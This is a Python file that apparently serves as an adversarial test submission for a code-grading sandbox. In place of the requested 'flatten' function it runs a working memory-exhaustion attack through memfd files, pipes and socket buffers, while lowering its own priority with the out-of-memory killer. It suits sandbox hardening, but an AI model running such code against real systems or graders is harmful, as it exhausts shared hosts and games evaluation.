# exercise: flatten
# attack: D06, D12
# must: earn no more than a stub
# within: 90 seconds
"""Fills memory that belongs to no process: files without a name, pipes, sockets; and is small itself, and no
likelier to be chosen than the others when the kernel has to end somebody."""

import fcntl
import os
import socket

ROOM = bytes(1 << 20)


def fill(number):
    os.set_blocking(number, False)
    try:
        while os.write(number, ROOM):
            pass
    except OSError:
        pass


try:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("0")
except OSError:
    pass
for place in range(60):
    try:
        memory = os.memfd_create(f"file {place}")
        for _ in range(16):
            os.write(memory, ROOM)
    except OSError:
        pass
held = []
for _ in range(60):
    try:
        reading, writing = os.pipe()
        fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, 1 << 20)
        fill(writing)
        held.append(socket.socketpair())
        held[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        fill(held[-1][0].fileno())
    except OSError:
        pass


def flatten(items):
    return None
